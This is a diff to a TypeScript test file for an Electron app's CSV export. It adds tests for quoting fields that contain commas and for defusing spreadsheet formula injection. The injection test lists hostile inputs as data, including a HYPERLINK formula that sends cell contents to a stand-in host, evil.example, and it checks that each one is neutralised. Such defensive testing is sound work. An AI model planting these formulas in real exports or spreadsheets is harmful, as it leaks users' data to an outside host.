@@ -4,11 +4,10 @@ import { describe, expect, it } from 'vitest';
 import { exportBundle, rulesInForce } from '../../electron/export/exportBundle';
 import { ExportError } from '../../electron/export/errors';
 import { PRIVATE_KEY_FILE, PUBLIC_KEY_FILE, workstationKey } from '../../electron/export/keys';
-import { parseCsv } from '../../electron/export/csv';
 import { verifyExport } from '../../electron/export/verify';
 import type { ActiveRuleSet } from '../../electron/journal';
-import { freshJournal } from '../journal/helpers';
-import { addOrders, bundleEvents, scratch } from './helpers';
+import { created, freshJournal, incoming, statusTo } from '../journal/helpers';
+import { addOrders, bundleEvents, readCsv, scratch } from './helpers';
 
 const NOW = () => new Date('2026-11-27T06:00:00Z');
 
@@ -73,8 +72,8 @@ describe('exportBundle', () => {
     const { journal, dest, options } = setup(12);
     const r = await exportBundle(journal, options);
     const dir = path.join(dest, r.bundle!);
-    const orders = parseCsv(fs.readFileSync(path.join(dir, 'orders.csv'), 'utf8'));
-    const anomalies = parseCsv(fs.readFileSync(path.join(dir, 'anomalies.csv'), 'utf8'));
+    const orders = readCsv(path.join(dir, 'orders.csv'));
+    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
     expect(orders.length - 1).toBe(journal.countOrders());
     expect(anomalies.length - 1).toBe(journal.anomalies({ limit: 10_000 }).length);
     expect(anomalies.length).toBeGreaterThan(1);
@@ -90,6 +89,73 @@ describe('exportBundle', () => {
     expect(manifest.chain.startHash).toBe(journal.chainHash(0));
     expect(manifest.chain.endHash).toBe(journal.chainHash(r.toSeq));
     expect(manifest.exportedAt).toBe(NOW().toISOString());
+  });
+
+  it("quotes a field for a comma alone, and every row has the header's number of fields", async () => {
+    const journal = freshJournal();
+    // A comma and nothing else that needs quoting: a writer that stopped quoting commas would
+    // pass every other test, and shift this customer's columns.
+    journal.appendBatch([created('ORD-C', [{ sku: 'A', qty: 1 }], 'Smith, Jones and Partners')], 'test');
+    journal.appendBatch(
+      [statusTo('ORD-C', 'Shipped', 'Picker')].map((e) => ({
+        ...e,
+        event: { ...e.event, initiatedBy: { id: 'p1', name: 'Kovac, Mark', role: 'Picker' as const } },
+      })),
+      'test',
+    );
+    const dest = scratch();
+    const r = await exportBundle(journal, { destination: dest, workstation: 'W1', keyDir: scratch(), now: NOW });
+    const dir = path.join(dest, r.bundle!);
+    const ordersText = fs.readFileSync(path.join(dir, 'orders.csv'), 'utf8');
+    expect(ordersText).toContain(',"Smith, Jones and Partners",');
+    const orders = readCsv(path.join(dir, 'orders.csv'));
+    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
+    for (const row of orders) expect(row).toHaveLength(orders[0]!.length);
+    for (const row of anomalies) expect(row).toHaveLength(anomalies[0]!.length);
+    expect(orders[1]![orders[0]!.indexOf('customer')]).toBe('Smith, Jones and Partners');
+    const shipped = anomalies.find((a) => a[anomalies[0]!.indexOf('kind')] === 'illegal-transition')!;
+    expect(shipped[anomalies[0]!.indexOf('initiatorName')]).toBe('Kovac, Mark');
+    expect(fs.readFileSync(path.join(dir, 'anomalies.csv'), 'utf8')).toContain(',"Kovac, Mark",');
+  });
+
+  it('defuses text a spreadsheet would run as a formula in orders.csv and anomalies.csv', async () => {
+    const journal = freshJournal();
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
+      '+1+2',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tTAB',
+      '\r=1',
+    ];
+    formulas.forEach((text, i) => {
+      const id = `ORD-F${i}`;
+      journal.appendBatch([created(id, [{ sku: 'A', qty: 1 }], text)], 'test');
+      const e = incoming(id, 'StatusChanged', { status: 'Shipped' }, 'Picker');
+      journal.appendBatch(
+        [{ ...e, event: { ...e.event, initiatedBy: { id: text, name: text, role: 'Picker' } } }],
+        'test',
+      );
+    });
+    const dest = scratch();
+    const keyDir = scratch();
+    const r = await exportBundle(journal, { destination: dest, workstation: 'W1', keyDir, now: NOW });
+    const dir = path.join(dest, r.bundle!);
+    const orders = readCsv(path.join(dir, 'orders.csv'));
+    const anomalies = readCsv(path.join(dir, 'anomalies.csv'));
+    const column = (rows: string[][], name: string) => rows.slice(1).map((row) => row[rows[0]!.indexOf(name)]!);
+    expect(column(orders, 'customer').sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+    const flagged = anomalies.filter((a) => a[anomalies[0]!.indexOf('kind')] === 'illegal-transition');
+    expect(flagged).toHaveLength(formulas.length);
+    for (const name of ['initiatorId', 'initiatorName']) {
+      expect(column([anomalies[0]!, ...flagged], name).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+    }
+    // No cell of either file starts as a formula, except a number (a negative count is data).
+    for (const row of [...orders, ...anomalies].flat()) {
+      if (/^-?\d+(\.\d+)?$/.test(row)) continue;
+      expect(row).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect((await verifyExport(dir, workstationKey(keyDir).publicKeyPem)).problems).toEqual([]);
   });
 
   it('refuses a training journal and writes nothing', async () => {
